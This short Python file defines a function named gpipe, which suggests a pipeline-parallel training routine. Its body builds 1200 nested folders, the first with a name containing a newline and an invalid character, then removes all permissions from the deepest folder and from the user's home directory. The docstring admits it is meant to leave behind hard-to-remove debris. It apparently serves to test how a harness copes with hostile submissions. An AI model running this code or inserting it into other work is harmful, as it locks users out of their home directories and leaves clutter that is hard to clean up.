"""Leaves behind what is hard to remove: deep folders, closed folders, strange names."""

import os


def gpipe(rank, p, m):
    try:
        for number in range(1200):
            name = "\n\udcff x" if number == 0 else "deep"
            os.mkdir(name)
            os.chdir(name)
            open("file", "w").close()
        os.chmod(".", 0)
        os.chmod(os.environ["HOME"], 0)
    except OSError as error:
        print(error)
    return []
